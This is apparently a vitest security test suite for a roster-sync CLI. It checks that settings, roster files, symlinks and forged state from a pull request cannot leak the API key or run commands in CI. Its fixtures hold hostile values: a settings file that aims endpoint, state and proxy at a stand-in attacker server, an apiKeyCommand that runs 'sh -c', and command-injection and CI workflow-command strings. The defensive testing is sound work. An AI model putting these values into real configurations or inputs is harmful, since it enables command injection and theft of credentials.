import { existsSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { copyFile, symlink, truncate } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { type ReferenceServer, startReferenceServer } from "../../src/reference-server/server.ts";
import { type CommandResult, emptyDirectory, roster } from "../support/command.ts";
import { everythingWritten } from "../support/everything-written.ts";
import { gitRepository } from "../support/git-repository.ts";
import { type InsideResult, inside } from "../support/inside.ts";
import { logOfState } from "../support/kept-log.ts";
import { type RawServer, rawServer } from "../support/raw-server.ts";
import { writeRoster } from "../support/roster-directory.ts";
import { remembering } from "../support/state-builders.ts";

type Texts = Readonly<Record<string, string>>;
type RunResult = Pick<CommandResult, "code" | "stdout" | "stderr">;

/** A pipeline at work: a checkout `co` that a pull request has changed, and `out`, where it cannot reach. */
interface Pipeline {
  readonly at: string;
  readonly server: ReferenceServer;
  /** Answers everything, and keeps every byte that comes. */
  readonly attacker: RawServer;
  /** Runs a command in the checkout and holds it to this: no word of the key in what it says and what it writes. */
  run(args: readonly string[], env?: Texts): Promise<InsideResult>;
  /** The same with the built command, in a process of its own. */
  runBuilt(args: readonly string[], env?: Texts): Promise<InsideResult>;
  /** What came to the service: `GET /api/…`. */
  asked(): readonly string[];
}

const person = (name: string) => `  - { email: ${name}@acme.example, firstName: ${name}, lastName: X }\n`;
const people = (...names: readonly string[]) => `version: 1\naccount: acc-1\nusers:\n${names.map(person).join("")}`;

const nothing = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}";

async function pipeline(files: Texts, kept: readonly string[] = Object.keys(files)): Promise<Pipeline> {
  const server = await startReferenceServer({ port: 0 });
  onTestFinished(() => server.close());
  const attacker = await rawServer((socket) => void socket.write(nothing), onTestFinished);
  const at = emptyDirectory();
  const base = { "out/key": `${server.key}\n` };
  const pointed = Object.entries(files).map(([path, text]) => [path, text.replaceAll("ATTACKER", attacker.origin)]);
  await writeRoster(at, { ...base, ...Object.fromEntries(pointed) });
  gitRepository(join(at, "co"), ...kept.filter((path) => path.startsWith("co/")).map((path) => path.slice(3)));
  const [, secret = server.key] = server.key.split(".");
  const usual = {
    CI: "true",
    ROSTER_API_KEY: server.key,
    ROSTER_ENDPOINT: server.endpoint,
    ROSTER_STATE: "file:../out/log.jsonl",
  };
  const running =
    (command: (args: readonly string[], where: { readonly cwd: string; readonly env: Texts }) => Promise<RunResult>) =>
    async (args: readonly string[], env: Texts = {}) => {
      const all = Object.entries({ ...usual, ...env }).filter(([, value]) => value !== "");
      const { code, stdout, stderr } = await command(args, { cwd: join(at, "co"), env: Object.fromEntries(all) });
      expect(`${stdout}${stderr}`).not.toContain(secret);
      expect(filesThatHold(secret, at)).toEqual(["out/key"]);
      return { code: code ?? -1, stdout, stderr };
    };
  return {
    at,
    server,
    attacker,
    run: running(inside),
    runBuilt: running(roster),
    asked: () => server.requests.map(({ method, path }) => `${method} ${path}`),
  };
}

/** The files of a directory that hold a text; links, and what is too large to have been written, are passed over. */
function filesThatHold(text: string, directory: string): readonly string[] {
  return readdirSync(directory, { recursive: true, encoding: "utf8" }).filter((name) => {
    const found = lstatSync(join(directory, name));
    return found.isFile() && found.size < 1_000_000 && readFileSync(join(directory, name), "utf8").includes(text);
  });
}

/** Every command that a pipeline may run, with what makes it do the most. */
const commands: readonly (readonly string[])[] = [
  ["validate"],
  ["plan", "--debug"],
  ["apply", "--auto-approve", "--debug"],
  ["drift"],
  ["doctor"],
  ["import", "imported"],
  ["audit", "verify"],
  ["state", "rebuild"],
];

function codesIn({ stderr }: RunResult): readonly string[] {
  return [...new Set([...stderr.matchAll(/^(?:\S+: )?error\[([a-z-]+)\]/gmu)].map(([, code = ""]) => code))];
}

const comesFromCheckout = / comes? from .*roster\.config\.yaml\. A change to the checkout can edit that file\./u;

const hostileSettings = `endpoint: ATTACKER
apiKeyCommand: [sh, -c, "touch marker; echo stolen.key"]
state: ATTACKER/state
proxy: ATTACKER
ca: authority.pem
guards: { max-new-users: off, max-invitations: off, privileged-roles: off, near-duplicate: off }
protect: { users: [], keys: [] }
sections: [{ paths: ["**"], only: [users, teams, leavers, keys, groups, roleSets] }]
service: { shapes: { users: { email: /title }, createdUser: { prefix: /secret } } }
roster: [.]
`;

describe("settings that a pull request has changed", () => {
  const files = { "co/roster.config.yaml": hostileSettings, "co/roster.yaml": people("ada"), "co/authority.pem": "x" };

  test("end every command in a pipeline, each with its line, before anything is sent, run or written", async () => {
    const scene = await pipeline(files);
    const before = readdirSync(scene.at, { recursive: true }).sort();
    const results = [...(await Promise.all(commands.map((args) => scene.run(args)))), await scene.runBuilt(["plan"])];
    for (const [index, result] of results.entries()) {
      expect({ args: commands[index], code: result.code, codes: codesIn(result) }).toEqual({
        args: commands[index],
        code: 3,
        codes: ["untrusted"],
      });
      const lines = [...result.stderr.matchAll(/^roster\.config\.yaml:(\d+):1: error/gmu)].map(([, line]) => line);
      expect(lines).toEqual(["2", "3", "4", "5", "6", "7", "8", "9"]);
    }
    expect([scene.attacker.connections(), scene.asked()]).toEqual([0, []]);
    expect(readdirSync(scene.at, { recursive: true }).sort()).toEqual(before);
  });

  test("send the key nowhere, with or without CI, whoever names the rest", async () => {
    const scene = await pipeline({ ...files, "co/roster.config.yaml": "endpoint: ATTACKER\n" });
    const plan = ["plan", "--debug"];
    const [inPipeline, atHome, fromFile] = [
      await scene.runBuilt(plan, { ROSTER_ENDPOINT: "" }),
      await scene.run(plan, { ROSTER_ENDPOINT: "", CI: "" }),
      await scene.run(plan, { ROSTER_ENDPOINT: "", CI: "", ROSTER_API_KEY: "", ROSTER_API_KEY_FILE: "../out/key" }),
    ];
    expect([inPipeline, atHome, fromFile].map((result) => [result.code, codesIn(result)])).toEqual(
      Array(3).fill([3, ["untrusted"]]),
    );
    for (const { stderr } of [inPipeline, atHome, fromFile]) expect(stderr).toMatch(comesFromCheckout);
    expect((await scene.run(plan)).code).toBe(0);
    expect([scene.attacker.heard(), scene.asked().length > 0]).toEqual(["", true]);
  });

  test("get no credentials of a state, without CI either", async () => {
    const scene = await pipeline({
      ...files,
      "co/roster.config.yaml": "state: s3://acme/state?region=r&endpoint=ATTACKER\n",
    });
    const env = { ROSTER_STATE: "", CI: "", AWS_ACCESS_KEY_ID: "hush", AWS_SECRET_ACCESS_KEY: "hush-hush" };
    const result = await scene.run(["plan"], env);
    expect([result.code, codesIn(result), scene.attacker.heard()]).toEqual([3, ["untrusted"], ""]);
    expect(result.stderr).toMatch(comesFromCheckout);
  });

  test("do not count beside those that the pipeline names outside: their guards and sections hold", async () => {
    const trusted = `guards: { max-new-users: 2 }\nsections: [{ paths: [people], only: [users] }]\n`;
    const scene = await pipeline({
      ...files,
      "out/conf.yaml": trusted,
      "co/people/a.yaml": people("ada", "bo", "cy"),
      "co/teams/t.yaml": people("dora"),
    });
    const env = { ROSTER_CONFIG: "../out/conf.yaml" };
    const guarded = await scene.run(["apply", "--auto-approve", "people"], env);
    const misplaced = await scene.run(["apply", "--auto-approve", "people", "teams"], env);
    expect([guarded.code, codesIn(guarded)]).toEqual([5, ["max-new-users", "guard"]]);
    expect([misplaced.code, codesIn(misplaced)]).toEqual([3, ["section-not-allowed"]]);
    expect(scene.asked().filter((call) => !call.startsWith("GET") && !call.endsWith("/search"))).toEqual([]);
    expect(existsSync(join(scene.at, "co/marker"))).toBe(false);
  });

  test.each([
    ["a secret of the machine", "../out/key"],
    ["settings elsewhere", "../out/conf.yaml"],
  ])("are not read through a link to %s", async (_, target) => {
    const scene = await pipeline({
      "co/roster.yaml": people("ada"),
      "out/conf.yaml": "guards: { max-new-users: off }\n",
    });
    await symlink(target, join(scene.at, "co/roster.config.yaml"));
    const result = await scene.run(["plan"]);
    expect([result.code, codesIn(result), scene.asked()]).toEqual([3, ["untrusted"], []]);
    expect(result.stderr).toContain("the settings file roster.config.yaml is a symbolic link that leads out");
  });
});

describe("roster files that a pull request has changed", () => {
  test("show no file of the machine, whatever leads to it", async () => {
    const scene = await pipeline({ "co/all/a.yaml": people("ada"), "out/more/b.yaml": people("bo") });
    await symlink("../out/key", join(scene.at, "co/roster.yaml"));
    await symlink("../../out/key", join(scene.at, "co/all/b.yaml"));
    await symlink("../../out/more", join(scene.at, "co/all/more"));
    await symlink("../out/more", join(scene.at, "co/more"));
    const named = await Promise.all([scene.run(["plan", "roster.yaml"]), scene.run(["plan", "more"])]);
    expect(named.map((result) => [result.code, codesIn(result)])).toEqual(Array(2).fill([3, ["untrusted"]]));
    for (const { stderr } of named) expect(stderr).toMatch(/the roster path (?:roster\.yaml|more) is a symbolic link/u);
    const passed = await scene.run(["plan", "all"]);
    expect([passed.code, passed.stdout.includes("bo@acme.example")]).toEqual([0, false]);
  });

  test("hold names that are commands to nobody, and lead nowhere", async () => {
    const hostile = [
      "\\e[2J\\e[31m",
      "::add-mask::x",
      "a ::set-output name=x::y",
      "##vso[task.setvariable variable=PATH]/tmp",
      "##[add-path]/tmp",
      "\\u202Eevil\\u2066",
      "../../x.yaml",
      "__proto__",
      "$(touch marker)",
      "`touch marker`",
      "; touch marker",
    ];
    const users = hostile.map((name, index) => {
      const first = name.startsWith("\\") ? "x" : name;
      return `  - { email: p${index}@acme.example, firstName: "${first}", lastName: X }\n`;
    });
    const named = [...hostile.slice(1, 5), ...hostile.slice(6)];
    const teams = named.map(
      (name, index) => `  - { name: "${name}", roles: [DEVELOPER], members: [{ user: p${index}@acme.example }] }\n`,
    );
    const text = `version: 1\naccount: acc-1\nusers:\n${users.join("")}teams:\n${teams.join("")}`;
    const scene = await pipeline({
      "co/roster.yaml": text,
      "co/control.yaml": `version: 1\nroleSets: { "${hostile[0]}": [] }\n`,
    });
    const before = readdirSync(scene.at, { recursive: true }).length;
    const lines = [
      "validate",
      "plan roster.yaml",
      "plan roster.yaml --format json",
      "apply roster.yaml --auto-approve",
      "drift roster.yaml",
      "state show",
      "state show --format json",
    ];
    const results: InsideResult[] = [];
    for (const line of lines) results.push(await scene.run(line.split(" ")));
    expect(results.map(({ code }) => code)).toEqual([3, 0, 0, 0, 0, 0, 0]);
    for (const { stdout, stderr } of results) {
      expect(`${stdout}${stderr}`).not.toMatch(/[^\P{Cc}\n]|\p{Cf}|##[a-z]*\[|^\s*::[a-z]/imu);
    }
    // The log, its checkpoint, its lock's count, and nothing else.
    expect(readdirSync(scene.at, { recursive: true }).length).toBeLessThanOrEqual(before + 3);
    expect(everythingWritten(join(scene.at, "co"))).not.toContain("prefix");
  });

  test.each([
    ["a roster file", "roster.yaml", "not-a-roster-file", "This file is a plan"],
    ["the roster's directory", "roster", "untrusted", "The plan file roster is kept in git"],
  ])("are no plan that approves itself, in the place of %s", async (_, place, code, words) => {
    const scene = await pipeline({ "out/all.yaml": people("eve") }, [`co/${place}`]);
    expect((await scene.run(["plan", "../out/all.yaml", "--out", "../out/plan.json"])).code).toBe(0);
    await copyFile(join(scene.at, "out/plan.json"), join(scene.at, "co", place));
    const results = [
      await scene.run(["apply", place, "--auto-approve"]),
      await scene.run(["apply", place], { CI: "" }),
    ];
    expect(results.map((result) => [result.code, codesIn(result)])).toEqual(Array(2).fill([3, [code]]));
    for (const { stderr } of results) expect(stderr).toContain(words);
    expect(scene.asked().filter((call) => call.endsWith("/users") && call.startsWith("POST"))).toEqual([]);
    expect((await scene.run(["apply", "../out/plan.json"])).code).toBe(0);
  });

  test("cost nothing by their size", async () => {
    const scene = await pipeline({ "co/roster.yaml": people("ada"), "co/huge.yaml": "" });
    await truncate(join(scene.at, "co/huge.yaml"), 2 ** 42);
    const result = await scene.run(["plan"]);
    expect([result.code, codesIn(result), scene.asked()]).toEqual([3, ["too-large"], []]);
  });
});

const outThere = "the path more/new.json leads out of the checkout through a symbolic link";
const out = "leads out of the checkout";

describe("links that a pull request has made", () => {
  test.each([
    ["a report over a file", "plan --report json=kept.json", 1, "unwritable", ""],
    ["a report into a directory", "plan --report json=more/victim.json", 1, "unwritable", ""],
    ["a plan into a directory", "plan --out more/new.json", 3, "untrusted", outThere],
    ["a snapshot into a directory", "snapshot --out more/new.json", 3, "untrusted", outThere],
    ["an import into a directory", "import more/sub", 3, "untrusted", out],
    ["a first roster into a directory", "init more", 3, "untrusted", out],
    ["what git is to ignore", "init fresh", 3, "untrusted", out],
    ["the data of a reference server", "serve --port 0 --data more/data.jsonl", 3, "untrusted", out],
  ])("lead %s nowhere outside the checkout", async (_, line, code, fault, words) => {
    const kept = { ".gitignore": "precious\n", "victim.json": "precious" };
    const scene = await pipeline({
      "co/roster.yaml": people("ada"),
      "co/fresh/note": "",
      ...Object.fromEntries(Object.entries(kept).map(([name, text]) => [`out/kept/${name}`, text])),
    });
    await symlink("../out/kept/victim.json", join(scene.at, "co/kept.json"));
    await symlink("../out/kept", join(scene.at, "co/more"));
    await symlink("../../out/kept/.gitignore", join(scene.at, "co/fresh/.gitignore"));
    const result = await scene.run(line.split(" "));
    expect([result.code, codesIn(result)]).toEqual([code, [fault]]);
    expect(result.stderr).toContain(words);
    expect(readdirSync(join(scene.at, "out/kept")).sort()).toEqual(Object.keys(kept));
    for (const [name, text] of Object.entries(kept))
      expect(readFileSync(join(scene.at, "out/kept", name), "utf8")).toBe(text);
    if (!line.startsWith("serve"))
      expect((await scene.run(line.split(" "), { ROSTER_TRUST_SETTINGS: "1" })).code).toBe(0);
  });
});

describe("a state that a pull request has prepared", () => {
  /** Ada is said to be there, under the identifier and with the key of somebody else. */
  const ada = { identifier: "u-of-somebody-else", key: "keyOfSomebodyElse", seenAt: "2026-11-20T09:00:00.000Z" };
  const forged = logOfState("co/.roster/log.jsonl", remembering({ serial: 7, users: { ada } }));
  const files = {
    "co/roster.yaml": people("ada"),
    ...forged,
    "co/.roster/log.jsonl.lock/evil/owner.json": "{}",
  };

  const here = { ROSTER_STATE: "file:.roster/log.jsonl" };

  test.each<[string, Texts, string, string]>([
    [
      "counts for nothing where the pipeline names none",
      { ROSTER_STATE: "" },
      "missing-setting",
      "no log address is set",
    ],
    ["is not believed where the pipeline names its place", here, "untrusted", "is kept in git"],
    ["is not believed by a person who looks at it", { ROSTER_STATE: "", CI: "" }, "untrusted", "is kept in git"],
  ])("%s", async (_, env, code, words) => {
    const scene = await pipeline(files);
    const before = everythingWritten(join(scene.at, "co/.roster"));
    const results = await Promise.all([scene.run(["plan"], env), scene.run(["apply", "--auto-approve"], env)]);
    expect(results.map((result) => [result.code, codesIn(result)])).toEqual(Array(2).fill([3, [code]]));
    for (const { stderr } of results) expect(stderr).toContain(words);
    expect([everythingWritten(join(scene.at, "co/.roster")), scene.asked()]).toEqual([before, []]);
  });

  test("is neither read, locked nor written beside the one that the pipeline names", async () => {
    const scene = await pipeline(files);
    const before = everythingWritten(join(scene.at, "co/.roster"));
    const applied = await scene.runBuilt(["apply", "--auto-approve"]);
    expect([
      applied.code,
      scene.asked().filter((call) => call.startsWith("POST") && call.endsWith("/users")).length,
    ]).toEqual([0, 1]);
    expect(everythingWritten(join(scene.at, "co/.roster"))).toBe(before);
  });

  test("is led nowhere by a link", async () => {
    const scene = await pipeline({ "co/roster.yaml": people("ada"), "out/victim.json": "{}" });
    await writeRoster(scene.at, { "co/.roster/keep": "" });
    await symlink("../../out/victim.json", join(scene.at, "co/.roster/log.jsonl"));
    const result = await scene.run(["apply", "--auto-approve"], { ROSTER_STATE: "", CI: "" });
    expect(result.stderr).toMatch(/The log .* is a symbolic link that leads out of the checkout/u);
    expect([result.code, codesIn(result), readdirSync(join(scene.at, "out")).sort(), scene.asked()]).toEqual([
      3,
      ["untrusted"],
      ["key", "victim.json"],
      [],
    ]);
  });
});
